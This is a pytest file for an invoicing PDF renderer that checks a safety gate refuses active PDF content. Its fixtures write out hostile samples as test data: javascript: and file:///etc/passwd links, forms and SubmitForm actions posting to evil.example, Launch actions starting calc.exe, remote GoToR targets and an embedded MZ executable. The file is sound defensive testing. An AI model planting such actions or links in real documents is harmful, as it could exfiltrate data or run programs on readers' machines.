"""A finished PDF is pages to read: what runs, asks, carries files or leads astray is refused, whoever made it."""

import io
import statistics
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from invoicing.rendering.errors import RenderFailedError
from invoicing.rendering.invoice import InvoiceRenderer
from invoicing.rendering.mail_cleaning import clean_message
from invoicing.rendering.mail_typesetting import MailTypesetter
from invoicing.rendering.pdf_rules import inspect_invoice, pdf_faults
from invoicing.rendering.sample import sample_invoice, sample_mail
from invoicing.rendering.templates import INVOICE_CSS, INVOICE_HTML, load_shipped
from invoicing.rendering.typesetting import Typesetter
from invoicing.rendering.validation import validate
from support.rendering import SOUND, template_of

pytestmark = pytest.mark.faults

# What a template can make of it; `css` is the invoice's style sheet.
TEMPLATES = {
    "a link that runs": ('<a href="javascript:app.alert(1)">x</a>', "", "pdf_link_refused"),
    "a link to a file": ('<a href="file:///etc/passwd">x</a>', "", "pdf_link_refused"),
    "a link to a share": ('<a href="smb://evil.example/x">x</a>', "", "pdf_link_refused"),
    "a page in a link": ('<a href="data:text/html,x">x</a>', "", "pdf_link_refused"),
    "an attachment of the document": (
        '<link rel="attachment" href="data:text/plain,x"><p>x</p>',
        "",
        "pdf_content_refused",
    ),
    "an attachment of a link": (
        '<a rel="attachment" href="data:text/plain,x">x</a>',
        "",
        "pdf_content_refused",
    ),
    "a form": (
        '<form action="https://evil.example/"><input name="a" type="text"></form>',
        "input { appearance: auto }",
        "pdf_content_refused",
    ),
}


@pytest.fixture(scope="module")
def renderer() -> Iterator[InvoiceRenderer]:
    """One template that is sound for every invoice but those of the corpus."""
    branches = [
        f"{{% if invoice.number == '{name}' %}}{html}{{% endif %}}" for name, (html, *_) in TEMPLATES.items()
    ]
    css = "".join(css for _, css, _ in TEMPLATES.values())
    with InvoiceRenderer(template_of("".join(branches) + "<p>{{ invoice.number }}</p>", css=css)) as made:
        yield made


@pytest.mark.parametrize("name", TEMPLATES)
def test_what_a_template_makes_is_refused_where_it_appears(renderer: InvoiceRenderer, name: str) -> None:
    with pytest.raises(RenderFailedError, match=f"invoice {name} was not rendered: invoice.html: ") as caught:
        renderer.render(replace(sample_invoice(), number=name))

    problem = caught.value.failure.values["problem"]
    assert getattr(problem, "code", None) == TEMPLATES[name][2]
    assert renderer.render(sample_invoice()).startswith(b"%PDF-")


def test_its_editor_is_told() -> None:
    sources = "\n".join(html for html, css, _ in TEMPLATES.values() if not css)
    problems = validate({**SOUND, INVOICE_HTML: sources})

    assert {problem.code for problem in problems} == {"pdf_link_refused", "pdf_content_refused"}
    assert {(each.values["link"], each.line) for each in problems if each.code == "pdf_link_refused"} == {
        ("javascript:app.alert(1)", 1),
        ("file:///etc/passwd", 2),
        ("smb://evil.example/x", 3),
        ("data:text/html,x", 4),
    }


def test_a_form_that_html_and_style_make_together_is_told_too() -> None:
    html, css, code = TEMPLATES["a form"]

    assert code in {problem.code for problem in validate({**SOUND, INVOICE_HTML: html, INVOICE_CSS: css})}


@pytest.mark.parametrize(
    "href",
    ["https://pagos.example/", "mailto:a@agencia.example", "http://agencia.example", "tel:+576015550100"],
)
def test_a_link_that_leads_where_it_says_stays(href: str) -> None:
    html = f'<h1 id="a">x</h1><a href="{href}">x</a><a href="#a">y</a>'
    with InvoiceRenderer(template_of(html)) as renderer:
        assert renderer.render(sample_invoice()).startswith(b"%PDF-")


@cache
def sound() -> bytes:
    with InvoiceRenderer(template_of('<h1>x</h1><a href="https://pagos.example/">x</a>')) as renderer:
        return renderer.render(sample_invoice())


def changed(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    """A sound invoice as a process that has been taken over would give it."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(sound())) as pdf:
        change(pdf)
        pdf.save(written)
    return written.getvalue()


def action(kind: str, **values: object) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **values)


def with_action(kind: str, **values: object) -> Callable[[pikepdf.Pdf], object]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Annots[0].A = action(kind, **values)

    return change


def with_annotation(kind: str) -> Callable[[pikepdf.Pdf], object]:
    def change(pdf: pikepdf.Pdf) -> None:
        made = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]))
        pdf.pages[0].obj.Annots.append(pdf.make_indirect(made))

    return change


def with_next_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots[0].A.Next = action("JavaScript", JS=String("app.alert(1)"))


def with_outline_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Outlines.First.A = action("Launch", F=String("calc.exe"))


def with_attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ"


def with_external_stream(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"x")
    stream.stream_dict.F = Dictionary(Type=Name.Filespec, F=String("//evil.example/share"))
    pdf.pages[0].obj.Contents = stream


def with_file_of_a_tag(pdf: pikepdf.Pdf) -> None:
    pdf.Root.StructTreeRoot.AF = Array([Dictionary(Type=Name.Filespec, F=String("x"))])


def in_catalogue(**values: object) -> Callable[[pikepdf.Pdf], object]:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in values.items():
            pdf.Root[f"/{key}"] = value

    return change


JAVASCRIPT = action("JavaScript", JS=String("app.alert(1)"))
CHANGES: dict[str, Callable[[pikepdf.Pdf], object]] = {
    "a script when it opens": in_catalogue(OpenAction=JAVASCRIPT),
    "a script when it closes": in_catalogue(AA=Dictionary(WC=JAVASCRIPT)),
    "scripts by name": in_catalogue(
        Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), JAVASCRIPT])))
    ),
    "a form": in_catalogue(AcroForm=Dictionary(Fields=Array())),
    "a form of XML": in_catalogue(AcroForm=Dictionary(Fields=Array(), XFA=String("x"))),
    "a collection of files": in_catalogue(Collection=Dictionary()),
    "an embedded file": with_attachment,
    "a file of a tag": with_file_of_a_tag,
    "a stream from elsewhere": with_external_stream,
    "a link that runs a script": with_action("JavaScript", JS=String("app.alert(1)")),
    "a link that starts a program": with_action("Launch", F=String("calc.exe")),
    "a link into another document": with_action("GoToR", F=String("//evil.example/a.pdf"), D=Array([0])),
    "a link into an embedded document": with_action("GoToE", D=Array([0])),
    "a link that sends a form": with_action("SubmitForm", F=String("https://evil.example/")),
    "a link that reads a form": with_action("ImportData", F=String("a.fdf")),
    "a link with a second action": with_next_action,
    "an outline that starts a program": with_outline_action,
    "a page that runs a script": lambda pdf: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=JAVASCRIPT)),
    "a film": with_annotation("RichMedia"),
    "a screen": with_annotation("Screen"),
    "an attached file": with_annotation("FileAttachment"),
    "a field": with_annotation("Widget"),
    "a link by a name": lambda pdf: (
        pdf.pages[0].obj.Annots[0].__setitem__("/PA", action("URI", URI=String("https://x")))
    ),
}


def test_a_sound_invoice_is_left_alone() -> None:
    assert list(pdf_faults(sound())) == []
    assert list(pdf_faults(changed(lambda _: None))) == []


@pytest.mark.filterwarnings("ignore::pikepdf.PageCopyWarning")
@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_what_a_process_that_was_taken_over_gives_is_refused(change: Callable[[pikepdf.Pdf], object]) -> None:
    faults = list(pdf_faults(changed(change)))

    assert {fault.code for fault in faults} == {"pdf_content_refused"}


def test_what_is_no_pdf_is_refused() -> None:
    # A reader that repairs the last one may see another document than we did.
    misplaced = sound().replace(b"startxref", b"startxxxx")
    for content in (b"", b"MZ", b"%PDF-1.7", sound()[:-300], misplaced):
        assert [fault.code for fault in pdf_faults(content)] == ["pdf_unreadable"], content[:20]


def test_what_is_locked_is_refused() -> None:
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(sound())) as pdf:
        pdf.save(written, encryption=pikepdf.Encryption(owner="a", user=""))

    assert "pdf_content_refused" in {fault.code for fault in pdf_faults(written.getvalue())}


def test_what_goes_round_in_circles_comes_to_an_end() -> None:
    def circle(pdf: pikepdf.Pdf) -> None:
        first = pdf.Root.Outlines.First
        first.Next = first
        first.First = pdf.Root.Outlines

    assert list(pdf_faults(changed(circle))) == []


def test_the_gate_costs_little_beside_the_printer() -> None:
    """One invoice and its message, in one process: a ratio, for machines differ."""
    typesetter = Typesetter(load_shipped(), 2**23)
    mail = MailTypesetter(load_shipped(), "x", 2**21).typeset(sample_mail())
    pdf = typesetter.typeset(sample_invoice())
    printing = median_of(lambda: typesetter.typeset(sample_invoice()), 10)
    inspecting = median_of(lambda: inspect_invoice(pdf), 20)
    cleaning = median_of(lambda: clean_message(mail), 20)
    print(
        f"printing {printing * 1000:.1f} ms, inspecting {inspecting * 1000:.1f} ms ({inspecting / printing:.1%}),"
        f" cleaning {cleaning * 1000:.1f} ms ({cleaning / printing:.1%})"
    )

    assert inspecting + cleaning < 0.1 * printing


def median_of(act: Callable[[], object], times: int) -> float:
    """Seconds of the processor's."""
    taken = []
    for _ in range(times):
        started = time.process_time()
        act()
        taken.append(time.process_time() - started)
    return statistics.median(taken)
